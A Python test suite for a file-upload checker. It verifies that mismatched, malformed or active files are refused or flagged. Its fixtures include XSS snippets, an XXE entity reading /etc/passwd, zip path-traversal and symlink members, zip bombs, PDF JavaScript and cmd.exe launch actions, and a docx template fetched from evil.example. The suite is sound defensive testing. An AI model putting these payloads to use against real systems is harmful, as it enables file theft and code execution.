"""UP-03, UP-04, UP-08, UP-09, UP-11: a file is what its ending says and harmless."""

from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
import zlib

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import Image

from controls.errors import Refused
from evidence.files.checks import archives, check
from evidence.files.checks.kinds import ALLOWED

HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
PE = b"MZ\x90\x00" + b"\0" * 200


def make_pdf(change=None) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def make_picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(out, kind)
    return out.getvalue()


def make_zip(members: dict[str, bytes], **how) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **how) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def make_sheet() -> bytes:
    book, out = Workbook(), io.BytesIO()
    book.active.append(["user", "removed on"])
    book.save(out)
    return out.getvalue()


def make_word(**more: bytes) -> bytes:
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/x"/>'
    members = {"[Content_Types].xml": types, "word/document.xml": b"<document/>"}
    return make_zip(members | more)


def make_slides() -> bytes:
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/x"/>'
    slides = b"<presentation/>"
    return make_zip({"[Content_Types].xml": types, "ppt/presentation.xml": slides})


def look(body: bytes, name: str):
    return check(io.BytesIO(body), name)


GOOD = {
    "a.pdf": make_pdf(),
    "a.png": make_picture("PNG"),
    "a.jpg": make_picture("JPEG"),
    "a.jpeg": make_picture("JPEG"),
    "a.txt": "Zugriff geprüft\n".encode(),
    "wide.txt": "geprüft\r\n".encode("utf-16"),
    "a.log": b"\x1b[32mok\x1b[0m\n",
    "a.md": b"# Review\n",
    "a.csv": b"user,state\nada,active\n",
    "a.json": b'{"users": []}',
    "a.xml": b"<report><row/></report>",
    "a.xlsx": make_sheet(),
    "a.docx": make_word(),
    "a.pptx": make_slides(),
    "a.zip": make_zip(
        {"b/a.txt": b"text", "a.pdf": make_pdf(), "t.xlsx": make_sheet()}
    ),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_may_be_uploaded_is_taken_without_flags(name: str) -> None:
    assert look(GOOD[name], name).flags == ()


@pytest.mark.parametrize("ending", ALLOWED)
def test_every_kind_has_its_check_alone_and_in_an_archive(ending: str) -> None:
    """UP-03: a kind on the short list that nothing checks would be a KeyError."""
    name = f"a.{ending}"
    assert look(GOOD[name], name).media_type == ALLOWED[ending]
    if ending != "zip":
        assert look(make_zip({name: GOOD[name]}), "a.zip").flags == ()


WRONG = {
    "html as pdf": (HTML, "a.pdf"),
    "html as png": (HTML, "a.png"),
    "html as txt": (HTML, "a.txt"),
    "html after a comment": (b"<!-- x -->\n" + HTML, "a.md"),
    "svg as txt": (SVG, "a.txt"),
    "svg as xml": (SVG, "a.xml"),
    "svg": (SVG, "a.svg"),
    "html": (HTML, "a.html"),
    "web archive as txt": (b"MIME-Version: 1.0\nContent-Type: multipart/x", "a.txt"),
    "program as pdf": (PE, "a.pdf"),
    "program as docx": (ELF, "a.docx"),
    "program": (ELF, "a.elf"),
    "no ending": (b"text", "README"),
    "only an ending": (b"text", ".txt"),
    "pdf as png": (make_pdf(), "a.png"),
    "png as jpg": (make_picture("PNG"), "a.jpg"),
    "jpg as png": (make_picture("JPEG"), "a.png"),
    "pdf not from its first byte": (b"\n" + make_pdf(), "a.pdf"),
    "cut pdf": (make_pdf()[:40], "a.pdf"),
    "cut png": (make_picture("PNG")[:40], "a.png"),
    "pdf and zip at once": (make_pdf() + make_zip({"a.txt": b"x"}), "a.pdf"),
    "plain zip as docx": (make_zip({"a.txt": b"x"}), "a.docx"),
    "sheet as docx": (make_sheet(), "a.docx"),
    "docm": (make_word(**{"word/vbaProject.bin": b"x"}), "a.docx"),
    "binary as txt": (bytes(range(256)), "a.txt"),
    "not json": (b"{", "a.json"),
    "deep json": (b"[" * 100_000, "a.json"),
    "not xml": (b"<a><b></a>", "a.xml"),
    "entities": (b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "a.xml"),
    "outside entity": (b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', "a.xml"),
    "stylesheet": (b'<?xml-stylesheet href="x.xsl"?><a/>', "a.xml"),
    "transformation": (
        b'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>',
        "a.xml",
    ),
    "html in zip": (make_zip({"a.html": HTML}), "a.zip"),
    "html as txt in zip": (make_zip({"a.txt": HTML}), "a.zip"),
    "zip in zip": (make_zip({"b.zip": make_zip({"a.txt": b"x"})}), "a.zip"),
    "climbs out": (make_zip({"../../x.txt": b"x"}), "a.zip"),
    "climbs out the other way": (make_zip({"..\\x.txt": b"x"}), "a.zip"),
    "absolute": (make_zip({"/etc/x.txt": b"x"}), "a.zip"),
    "drive": (make_zip({"C:/x.txt": b"x"}), "a.zip"),
    "zeros": (make_zip({"a.txt": b" " * 20_000_000}), "a.zip"),
    "docx with huge xml": (
        make_word(**{"word/theme.xml": b" " * 20_000_000}),
        "a.docx",
    ),
    "many members": (
        make_zip({f"{n}.txt": b"x" for n in range(archives.MAX_MEMBERS + 1)}),
        "a.zip",
    ),
}


@pytest.mark.parametrize("case", WRONG)
def test_what_may_not_be_uploaded_is_refused_by_name(case: str) -> None:
    body, name = WRONG[case]
    with pytest.raises(Refused) as refusal:
        look(body, name)
    assert f"“{name}" in str(refusal.value)
    assert "Nothing was stored" in str(refusal.value)


def test_a_link_in_an_archive_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(Refused, match="link"):
        look(out.getvalue(), "a.zip")


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_members_of_one_name_are_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "one")
        archive.writestr("a.txt", "two")
    with pytest.raises(Refused, match="same name"):
        look(out.getvalue(), "a.zip")


def test_overlapping_members_are_refused() -> None:
    body = bytearray(make_zip({"a.txt": b"x" * 50, "b.txt": b"x" * 50}))
    second = body.rindex(b"PK\x01\x02")
    body[second + 42 : second + 46] = struct.pack("<I", 0)
    with pytest.raises(Refused, match=r"overlap|damaged"):
        look(bytes(body), "a.zip")


def test_an_encrypted_member_is_refused() -> None:
    body = bytearray(make_zip({"a.txt": b"x"}))
    directory = body.rindex(b"PK\x01\x02")
    body[directory + 8] |= 1
    with pytest.raises(Refused, match="encrypted"):
        look(bytes(body), "a.zip")


def test_a_member_longer_than_it_says_is_refused() -> None:
    body = bytearray(make_zip({"a.txt": b"x" * 5000}))
    directory = body.rindex(b"PK\x01\x02")
    body[directory + 24 : directory + 28] = struct.pack("<I", 10)
    with pytest.raises(Refused):
        look(bytes(body), "a.zip")


def test_an_encrypted_pdf_is_refused() -> None:
    out = io.BytesIO()
    document = pikepdf.new()
    document.add_blank_page()
    document.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    with pytest.raises(Refused, match="encrypted"):
        look(out.getvalue(), "a.pdf")


def chunk(kind: bytes, body: bytes) -> bytes:
    check_sum = struct.pack(">I", zlib.crc32(kind + body))
    return struct.pack(">I", len(body)) + kind + body + check_sum


def test_a_huge_picture_is_refused_by_its_header() -> None:
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    body = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IEND", b"")
    with pytest.raises(Refused, match=r"pixel"):
        look(body, "wall.png")


def script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
    )


def launch(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    document.Root.OpenAction = document.make_indirect(action)


def attach(document: pikepdf.Pdf) -> None:
    document.attachments["a.txt"] = b"hidden"


@pytest.mark.parametrize(
    ("change", "flag"),
    [(script, "javascript"), (launch, "launch"), (attach, "attachment")],
)
def test_an_active_pdf_is_flagged(change, flag: str) -> None:
    assert flag in look(make_pdf(change), "a.pdf").flags
    assert flag in look(make_zip({"a.pdf": make_pdf(change)}), "a.zip").flags


def test_an_office_document_that_loads_from_elsewhere_is_flagged() -> None:
    relation = (
        b'<Relationships><Relationship Type="http://x/attachedTemplate"'
        b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    body = make_word(
        **{
            "word/_rels/settings.xml.rels": relation,
            "word/embeddings/oleObject1.bin": b"x",
        }
    )
    assert look(body, "a.docx").flags == ("embedded-object", "external")


@given(st.binary(max_size=400), st.sampled_from(sorted(GOOD)))
def test_whatever_the_bytes_are_the_answer_is_taken_or_refused(body, name) -> None:
    try:
        look(body, name)
    except Refused as refusal:
        assert refusal.messages


@given(st.integers(0, 2**32), st.sampled_from(sorted(GOOD)))
def test_a_damaged_file_is_taken_or_refused(seed: int, name: str) -> None:
    chance, body = random.Random(seed), bytearray(GOOD[name])
    for _ in range(chance.randint(1, 8)):
        body[chance.randrange(len(body))] = chance.randrange(256)
    try:
        look(bytes(body), name)
    except Refused as refusal:
        assert refusal.messages


APPLE_DOUBLE = b"\0\5\x16\7\0\2\0\0Mac OS X        "
ADDED = {
    "__MACOSX/Q3/._users.csv": APPLE_DOUBLE,
    "Q3/.DS_Store": b"\0\0\0\1Bud1\0\0",
    "Q3/Thumbs.db": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "Q3\\desktop.ini": b"[.ShellClassInfo]\r\n",
    "Q3\\": b"",
}


@pytest.mark.parametrize("added", ADDED)
def test_what_finder_and_explorer_add_to_an_archive_is_passed_over(added) -> None:
    """UP-03: what only bears such a name is checked as anything else."""
    brought = {"Q3/users.csv": b"a,b\n1,2\n"}
    assert look(make_zip(brought | {added: ADDED[added]}), "a.zip").flags == ()
    with pytest.raises(Refused):
        look(make_zip(brought | {added: b"MZ\x90\0program"}), "a.zip")


def test_an_archive_of_nothing_that_anybody_brought_is_refused() -> None:
    for members in (ADDED, {"Q3/": b""}):
        with pytest.raises(Refused, match="holds no file"):
            look(make_zip(members), "a.zip")
